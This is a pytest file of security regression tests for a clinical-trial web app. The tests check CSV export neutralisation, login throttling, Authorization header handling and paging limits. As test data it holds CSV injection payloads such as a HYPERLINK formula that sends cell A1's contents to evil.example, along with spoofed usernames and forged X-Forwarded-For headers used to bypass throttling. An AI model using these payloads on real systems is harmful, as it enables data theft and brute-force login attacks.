"""HTTP-level attacks of the outside probe (issue 17): CSV formula injection, login throttling
bypasses (username variants, a forged X-Forwarded-For), a malformed Authorization header, a huge page
number, the EPiHC form. Each test fails on the code of commit bef02d6 (see its docstring)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from oncofed.domain import Actor, PatientProfile, Role
from oncofed.domain.actor import Actor as _SetupActor
from oncofed.presenters.csv import neutralise, to_csv
from oncofed.services.accounts import users as accounts
from oncofed.services.network.centres import load_centres
from oncofed.store.db import Database
from oncofed.store.repositories import PatientRepository
from oncofed.web.app import create_app
from tests.conftest import free_port

SETUP = _SetupActor.system("test setup")  # accounts made by the fixtures (not audited)

PASSWORD = "correct horse battery"
FORMULAS = ['=HYPERLINK("http://evil.example","click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.fixture(autouse=True)
def cheap_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    from argon2 import PasswordHasher, profiles

    monkeypatch.setattr(accounts, "_hasher", PasswordHasher.from_parameters(profiles.CHEAPEST))


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found
    return found.group(1)


def login(client: TestClient, username: str, password: str = PASSWORD) -> int:
    token = _csrf(client.get("/login").text)
    data = {"username": username, "password": password, "csrf_token": token}
    return client.post("/login", data=data, follow_redirects=False).status_code


# --- CSV formula injection ----------------------------------------------------------------------


def test_csv_cells_that_look_like_formulas_are_made_inert() -> None:
    """On bef02d6 `=HYPERLINK(...)` was written verbatim into every CSV export."""
    text = to_csv([{"a": f, "n": -3, "l": ["=x", "y"]} for f in FORMULAS], ["a", "n", "l"])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["a"] for r in rows] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert {r["n"] for r in rows} == {"-3"}  # a number stays a number
    assert {r["l"] for r in rows} == {"'=x; y"}
    assert neutralise("plain text") == "plain text" and neutralise(None) is None


def test_every_export_neutralises_a_name_a_note_and_a_title(sqlite_db: Database, client_as) -> None:  # type: ignore[no-untyped-def]
    from oncofed.services.prescreen.refresh import refresh_prescreen
    from oncofed.services.prescreen.screening import StatusChange, change_status
    from tests.prescreen_fixtures import FAKE_ENGINE, TRIAL_ID, build_network, nurse

    a, _ = build_network(sqlite_db)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
    with sqlite_db.session() as s:
        PatientRepository(s, Actor.system("test")).add_many(
            [PatientProfile(id="A-9", centre_id=a, sex="FEMALE", display_name=evil, primary_cancer="BRCA")]
        )
    refresh_prescreen(sqlite_db, TRIAL_ID, a, nurse(a), engine=FAKE_ENGINE)
    change_status(sqlite_db, nurse(a), TRIAL_ID, [StatusChange("A-1", 0)], "pending", note=evil)
    client = client_as(sqlite_db, nurse(a))
    exports = [
        client.get("/api/patients?format=csv&size=100").text,
        client.get(f"/api/prescreen/{TRIAL_ID}/{a}?format=csv").text,
        client.get(f"/api/prescreen/{TRIAL_ID}/{a}/log?format=csv").text,
    ]
    for text in exports:
        assert evil in text.replace('""', '"')  # the text is kept...
        assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)


# --- login throttling ----------------------------------------------------------------------------


@pytest.fixture
def web_db(sqlite_db: Database) -> Database:
    load_centres(sqlite_db)
    accounts.add_user(sqlite_db, "admin", "admin", PASSWORD, actor=SETUP)
    return sqlite_db


@pytest.mark.parametrize(
    "variant", [" admin", "admin\t", "ADMIN", "Admin ", "\uff41\uff44\uff4d\uff49\uff4e"]
)
def test_a_locked_account_stays_locked_for_every_spelling_of_its_name(web_db: Database, variant: str) -> None:
    """On bef02d6 the limiter keyed on lower() and authentication on strip(): after "admin" was
    locked, " admin" and "admin\\t" logged in with the right password."""
    client = TestClient(create_app(web_db))
    for _ in range(5):
        assert login(client, "admin", "wrong password!") == 401
    assert login(client, variant) == 429
    assert login(client, "admin") == 429


def test_the_right_password_under_another_spelling_logs_into_the_same_account(web_db: Database) -> None:
    client = TestClient(create_app(web_db))
    assert login(client, " ADMIN\t") == 303
    assert client.get("/api/me").json()["user"] == "admin"
    with pytest.raises(Exception, match="already exists"):
        accounts.add_user(web_db, "Admin", "dpo", PASSWORD, actor=SETUP)  # one account per canonical name


def test_an_account_is_throttled_across_addresses() -> None:
    """With a trusted proxy every client address is its own, but one account still gets at most
    `per_account` failures in the window, whatever the addresses."""
    from oncofed.web.auth import LoginLimiter

    limiter = LoginLimiter(per_user=5, per_address=30, per_account=20)
    for i in range(20):
        assert limiter.retry_after(f"10.0.0.{i}", "admin") == 0
        limiter.failed(f"10.0.0.{i}", "admin")
    assert limiter.retry_after("10.0.0.99", " Admin") > 0
    assert limiter.retry_after("10.0.0.99", "someone-else") == 0


def test_a_forged_x_forwarded_for_does_not_reset_the_limit(tmp_path: Path) -> None:
    """`oncofed serve`, as run: on bef02d6 uvicorn believed X-Forwarded-For from 127.0.0.1, so a new
    address per attempt gave unlimited attempts. Trusted proxies are now off unless configured."""
    db = Database(f"sqlite:///{tmp_path}/oncofed.sqlite3")
    db.upgrade()
    load_centres(db)
    accounts.add_user(db, "admin", "admin", PASSWORD, actor=SETUP)  # a cheap argon2 hash (see cheap_hashes)
    db.dispose()
    port = free_port()
    env = {**os.environ, "ONCOFED_VAR_DIR": str(tmp_path), "ONCOFED_RERANK": "off"}
    env.pop("DATABASE_URL", None)
    env.pop("ONCOFED_TRUSTED_PROXIES", None)
    server = subprocess.Popen(
        [sys.executable, "-m", "oncofed.cli", "serve", "--port", str(port), "--access-log", "off"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while True:
            try:
                httpx.get(base + "/api/health", timeout=2)
                break
            except httpx.HTTPError:
                assert server.poll() is None, server.stderr.read().decode() if server.stderr else ""
                assert time.monotonic() < deadline, "oncofed serve did not start"
                time.sleep(0.3)
        with httpx.Client(base_url=base) as client:
            statuses = []
            for i in range(8):
                token = _csrf(client.get("/login").text)
                r = client.post(
                    "/login",
                    data={"username": "admin", "password": "wrong password!", "csrf_token": token},
                    headers={"X-Forwarded-For": f"203.0.113.{i}"},
                )
                statuses.append(r.status_code)
        assert statuses[:5] == [401] * 5 and set(statuses[5:]) == {429}, statuses
    finally:
        server.terminate()
        server.wait(timeout=20)


# --- credentials, paging, forms ----------------------------------------------------------------


@pytest.mark.parametrize(
    "header", ["Basic YWRtaW46eA==", "Bearer", "Bearer   ", "ofd_abc", "Token ofd_x", ""]
)
def test_a_malformed_authorization_header_is_refused_not_public(web_db: Database, header: str) -> None:
    """On bef02d6 anything but "Bearer <token>" was silently read as the public role."""
    client = TestClient(create_app(web_db))
    for path in ("/api/me", "/api/trials", "/api/patients"):
        r = client.get(path, headers={"Authorization": header})
        assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer", (path, header)
    token = accounts.issue_token(web_db, "admin", actor=SETUP)
    assert client.get("/api/me", headers={"Authorization": f"bearer {token}"}).json()["user"] == "admin"


@pytest.mark.parametrize(
    "url",
    [
        "/api/patients?page=200000000000000000",
        "/patients?page=200000000000000000",
        "/api/trials?page=200000000000000000",
        "/api/prescreen/notifications/99999999999999999999999/read",
    ],
)
def test_huge_paging_and_id_parameters_are_refused_not_server_errors(demo_db: Database, url: str) -> None:
    """On bef02d6 `GET /api/patients?page=200000000000000000` was a 500 for anyone (SQLite offset
    overflow)."""
    client = TestClient(create_app(demo_db), raise_server_exceptions=False)
    clinician = Actor("claire", Role.CLINICIAN, frozenset({"curie"}), "care")
    client.app.state.actor_resolver = lambda request: clinician  # type: ignore[attr-defined]
    method = "POST" if url.endswith("/read") else "GET"
    assert client.request(method, url, headers={"accept": "text/html"}).status_code == 422


def test_a_centre_quality_manager_saves_the_epihc_form_in_a_browser_session(web_db: Database) -> None:
    """On bef02d6 a quality manager could not be given a centre (so nobody could edit EPiHC) and the
    form, read a second time after the CSRF check had read it, was always a 500 ("Stream consumed")."""
    accounts.add_user(web_db, "quality-curie", "quality_manager", PASSWORD, centre_ids=["curie"], actor=SETUP)
    accounts.add_user(web_db, "quality", "quality_manager", PASSWORD, actor=SETUP)  # network-wide: reads only
    client = TestClient(create_app(web_db), raise_server_exceptions=False)
    assert login(client, "quality-curie") == 303
    page = client.get("/quality/epihc/curie", headers={"accept": "text/html"}).text
    assert 'class="epihc-form"' in page
    form = {"csrf_token": _csrf(page), "score": "3", "evidence": "ISO 14001", "review_date": "2027-01-31"}
    saved = client.post("/quality/epihc/curie/environment", data=form, follow_redirects=False)
    assert saved.status_code == 303 and "saved=environment" in saved.headers["location"]
    row = next(
        p
        for p in client.get("/api/quality/epihc/curie").json()["principles"]
        if p["principle_id"] == "environment"
    )
    assert (row["score"], row["evidence"], row["updated_by"]) == (3, "ISO 14001", "quality-curie")
    assert client.post("/quality/epihc/icm/environment", data=form).status_code == 403  # another centre
    bad = client.post("/quality/epihc/curie/environment", data={**form, "score": "9"})
    assert bad.status_code == 422
    other = TestClient(create_app(web_db))
    assert login(other, "quality") == 303
    assert 'class="epihc-form"' not in other.get("/quality/epihc/curie", headers={"accept": "text/html"}).text
